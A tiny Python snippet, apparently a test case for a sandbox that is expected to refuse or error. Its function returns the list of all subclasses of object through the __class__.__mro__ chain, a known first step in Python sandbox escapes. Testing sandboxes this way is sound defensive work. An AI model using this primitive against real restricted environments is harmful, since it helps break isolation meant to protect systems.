# refused | any error
def go(payload):
    return repr(().__class__.__mro__[-1].__subclasses__()).encode()
